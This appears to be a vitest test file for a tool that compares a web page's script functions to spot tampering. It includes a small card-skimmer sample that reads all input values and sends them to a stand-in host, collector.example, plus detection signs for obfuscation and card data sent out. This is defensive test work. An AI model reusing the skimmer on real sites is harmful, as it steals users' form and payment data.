import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { parseSync, Visitor } from 'oxc-parser';
import { describe, expect, it } from 'vitest';
import { compareUnits } from './compare-units.ts';
import { readScript, shapeOf, type Unit } from './read-units.ts';

const unitsOf = (source: string, inline = false): readonly Unit[] => {
  const read = readScript(source, { inline });
  if (read.kind !== 'read') throw new Error(`not read: ${read.reason}`);
  return read.units;
};
const functionsOf = (source: string) => unitsOf(source).filter(({ kind }) => kind === 'function');
const shape = (source: string, inline = false) => shapeOf(unitsOf(source, inline));

/** The oracle: another parser counts the functions of the same text. */
const countedByOxc = (source: string): number => {
  let count = 0;
  const seen = () => {
    count += 1;
  };
  const { program } = parseSync('script.js', source, { sourceType: 'script' });
  new Visitor({ FunctionDeclaration: seen, FunctionExpression: seen, ArrowFunctionExpression: seen }).visit(program);
  return count;
};

const library = (path: string): string =>
  readFileSync(new URL(`../../../../node_modules/${path}`, import.meta.url), 'utf8');
const LIBRARIES = ['uplot/dist/uPlot.iife.js', 'uplot/dist/uPlot.iife.min.js', 'react/cjs/react.development.js'];

const SKIMMER = `
;(function () {
  function collect() { return [...document.querySelectorAll('input')].map((field) => field.value).join('|'); }
  function send(text) { new Image().src = 'https://collector.example/p?d=' + btoa(text); }
  document.addEventListener('submit', function () { send(collect()); });
})();`;

describe.each(LIBRARIES)('%s', (path) => {
  const source = library(path);

  it('has as many functions as another parser counts', () => {
    expect(functionsOf(source)).toHaveLength(countedByOxc(source));
  });

  it('with a skimmer appended shows exactly its functions', () => {
    const { added, removed, changed, same } = compareUnits(unitsOf(source), unitsOf(source + SKIMMER));
    const functions = added.filter(({ kind }) => kind === 'function');
    expect(functions).toHaveLength(countedByOxc(SKIMMER));
    expect(functions.map(({ name }) => name)).toEqual([undefined, 'collect', undefined, 'send', undefined]);
    expect(functions.every(({ start }) => start >= source.length)).toBe(true);
    expect(added).toHaveLength(functions.length + 1);
    expect([removed, changed]).toEqual([[], []]);
    expect(same).toBe(unitsOf(source).length);
  });

  it('with a skimmer put inside one of its functions shows those functions and the one that was opened', () => {
    const [opened] = functionsOf(source)
      .filter(({ start, end }) => source.slice(start, end).startsWith('function') && end - start > 200)
      .toSorted((a, b) => b.start - a.start);
    const at = source.indexOf('{', source.indexOf(')', opened?.start)) + 1;
    const { added, removed, changed } = compareUnits(
      unitsOf(source),
      unitsOf(source.slice(0, at) + SKIMMER + source.slice(at)),
    );
    expect(added.length + changed.length).toBe(countedByOxc(SKIMMER) + 1);
    expect(removed.length + changed.length).toBe(1);
  });
});

/** Programs of functions, variables and what uses them; names that are not local are upper case. */
type Made = { readonly text: (name: (index: number) => string) => string; toString(): string };
const NAMES = 5;
const made = (text: Made['text']): Made => ({ text, toString: () => text((at) => `name${at}`) });
const index = fc.nat(NAMES - 1);
const { program } = fc.letrec<{ expression: Made; statement: Made; program: Made }>((tie) => ({
  expression: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    index.map((at) => made((name) => name(at))),
    fc.constantFrom('GLOBAL', '(42)', "'card'", '/x/g', '`a`', 'null').map((text) => made(() => text)),
    fc
      .tuple(tie('expression'), tie('expression'))
      .map(([a, b]) => made((name) => `(${a.text(name)} + ${b.text(name)})`)),
    fc
      .tuple(tie('expression'), tie('expression'))
      .map(([a, b]) => made((name) => `CALL(${a.text(name)}, ${b.text(name)}.field)`)),
    tie('expression').map((a) => made((name) => `({ key: ${a.text(name)}, other() { return ${a.text(name)}; } })`)),
    fc.tuple(index, tie('expression')).map(([at, a]) => made((name) => `((${name(at)}) => ${a.text(name)})`)),
  ),
  statement: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    tie('expression').map((a) => made((name) => `return ${a.text(name)};`)),
    fc.tuple(index, tie('expression')).map(([at, a]) => made((name) => `var ${name(at)} = ${a.text(name)};`)),
    fc
      .tuple(tie('expression'), tie('statement'))
      .map(([a, b]) => made((name) => `if (${a.text(name)}) { ${b.text(name)} }`)),
    fc
      .tuple(index, tie('expression'))
      .map(([at, a]) => made((name) => `{ let ${name(at)} = 1; SEND(${a.text(name)}, ${name(at)}); }`)),
    fc
      .tuple(index, index, tie('statement'))
      .map(([at, parameter, a]) => made((name) => `function ${name(at)}(${name(parameter)}) { ${a.text(name)} }`)),
  ),
  program: fc
    .array(tie('statement'), { minLength: 1, maxLength: 5 })
    .map((statements) =>
      made(
        (name) =>
          `(function (${[0, 1, 2, 3, 4].map(name).join(', ')}) { ${statements.map((each) => each.text(name)).join('\n')} })();`,
      ),
    ),
}));

const ONE = (at: number) => `name${at}`;
const OTHER = (at: number) => 'abcde'[at] ?? '';

describe('the hash of a function', () => {
  it('stays when every local name is another, and when spaces and comments change', () => {
    fc.assert(
      fc.property(program, ({ text }) => {
        const renamed = text(OTHER).replaceAll(' ', '  ').replaceAll(';', '; /* said */\n');
        expect(shape(renamed)).toBe(shape(text(ONE)));
      }),
    );
  });

  it('counts as many functions as another parser, whatever the program', () => {
    fc.assert(
      fc.property(program, ({ text }) => {
        expect(functionsOf(text(ONE))).toHaveLength(countedByOxc(text(ONE)));
      }),
    );
  });

  it.each([
    ['another host', "f => fetch('https://a.example/' + f)", "f => fetch('https://b.example/' + f)"],
    ['another property', 'f => f.value', 'f => f.name'],
    ['another global', 'f => send(f)', 'f => fetch(f)'],
    ['another operator', '(a, b) => a + b', '(a, b) => a - b'],
    ['names that change places', '(a, b) => a - b', '(a, b) => b - a'],
    ['another small number', 'a => a[1]', 'a => a[2]'],
    ['an outer name for an own one', 'a => b => a', 'a => b => b'],
    [
      'an address in base64',
      "() => atob('aHR0cHM6Ly9hLmV4YW1wbGUvcA==')",
      "() => atob('aHR0cHM6Ly9iLmV4YW1wbGUvcA==')",
    ],
    [
      'an address in hex',
      "() => d('68747470733a2f2f612e6578616d706c65')",
      "() => d('68747470733a2f2f622e6578616d706c65')",
    ],
    ['a generator', '(function () { return 1 })', '(function* () { return 1 })'],
    ['a hole in an array', '() => [1, , 2]', '() => [1, 2]'],
    ['another expression of signs', '(t) => /a/.test(t)', '(t) => /b/.test(t)'],
  ])('changes with %s', (_what, one, other) => {
    expect(shape(one)).not.toBe(shape(other));
  });

  it.each([
    ['an instant in milliseconds', 'f(1763712000000)', 'f(1763798400000)'],
    ['a nonce', "f('aB3dE5gH7jK9mN1pQ3sT5v==')", "f('zY9xW7vU5tS3rQ1pO8nM6k==')"],
    ['a token in hex', "f('9f86d081884c7d659a2feaa0c55ad015')", "f('60303ae22b998861bce3b28f33eec1be')"],
    ['the query of an address', "f('/cart.js?v=1763712000')", "f('/cart.js?v=1763798400')"],
    ['a UUID', "f('123e4567-e89b-12d3-a456-426614174000')", "f('987fcdeb-51a2-43d7-9012-345678901234')"],
    ['a property in short', '(() => { const a = G; return { a }; })()', '(() => { const b = G; return { a: b }; })()'],
  ])('stays with %s', (_what, one, other) => {
    expect(shape(one)).toBe(shape(other));
  });
});

describe('an inline script', () => {
  const page = (changes: { cart?: string; host?: string; id?: string }) =>
    `window.__STATE__ = { cart: [${changes.cart ?? '1, 2'}], user: null, api: 'https://${changes.host ?? 'shop.example'}/api' };
     var csrf = '${changes.id ?? 'x'}'; dataLayer.push({ event: 'view', total: ${changes.cart?.length ?? 3} });
     init(document.getElementById('pay'));`;

  it('is the same while only the data of its page changes', () => {
    expect(shape(page({ cart: "{ name: '茶碗', price: 3200 }", id: 'another value' }), true)).toBe(
      shape(page({}), true),
    );
  });

  it('is another when its data names another host', () => {
    expect(shape(page({ host: 'evil.example' }), true)).not.toBe(shape(page({}), true));
  });

  it('is another when what it calls is given another word', () => {
    expect(shape(page({}).replace("'pay'", "'card'"), true)).not.toBe(shape(page({}), true));
  });

  it('as a file counts its data too', () => {
    expect(shape(page({ cart: '9' }))).not.toBe(shape(page({})));
  });
});

describe('a hostile script', () => {
  it.each([
    ['of 10 MB', `var x = '${'a'.repeat(10_000_000)}'`, 'too-large'],
    ['nested too deep for the parser', '['.repeat(100_000), 'too-deep'],
    ['chained too deep for us', `x = ${Array.from({ length: 20_000 }, () => 'a').join('+')}`, 'too-deep'],
    ['that is none', 'this is (not a script', 'syntax'],
  ] as const)('%s is not parsed, and it is said why', (_what, source, reason) => {
    expect(readScript(source, { inline: false })).toEqual({ kind: 'not-parsed', reason });
  });

  it('that is a module is read as one', () => {
    expect(functionsOf("import { a } from './a.js'; export const b = () => a(import.meta.url);")).toHaveLength(1);
  });

  it('with properties named like those of objects is read', () => {
    expect(
      functionsOf('var __proto__ = () => 1; var constructor = () => hasOwnProperty; ({ toString: () => 2 })'),
    ).toHaveLength(3);
  });
});

describe('signs', () => {
  const signsOf = (source: string) => {
    const read = readScript(source, { inline: false });
    return read.kind === 'read' ? read.signs : undefined;
  };

  it('name the storage that is written, not that which is read', () => {
    const text = `localStorage.setItem('a', 1); window.sessionStorage.b = 2; document.cookie = 'c=1'; indexedDB.open('d')`;
    expect(signsOf(text)?.storage).toEqual(['cookie', 'indexed-db', 'local-storage', 'session-storage']);
    expect(
      signsOf(`f(localStorage.getItem('a'), document.cookie, sessionStorage.b); window.open('/x')`)?.storage,
    ).toEqual([]);
  });

  it.each(["eval('1')", "new Function('return 1')", "setTimeout('f()', 1)", "window['eval'](x)"])(
    '%s makes code from text',
    (text) => {
      expect(signsOf(text)?.evaluates).toBe(true);
    },
  );

  it('tell card words beside a way out, in the same function only', () => {
    expect(signsOf("() => fetch('/x', { body: form.cardNumber })")?.cardWordsNearSink).toBe(1);
    expect(signsOf("() => form.cardNumber; () => fetch('/x')")?.cardWordsNearSink).toBe(0);
  });

  it('measure obfuscation', () => {
    const signs = signsOf(
      "var _0x3fa2 = ['a', 'b', 'c']; var _0x11cd = 'q8Z!x0Rk3#Lm7@Vt5$Yw2%Ng9^Hj4&Bp6*Cd1(Fs)EuTiOaXzQ-WyKv_JhGbMnPl+r='",
    );
    expect(signs).toMatchObject({ hexNames: 2, longestStringArray: 3 });
    expect(signs?.highestEntropyTenths).toBeGreaterThan(55);
  });
});
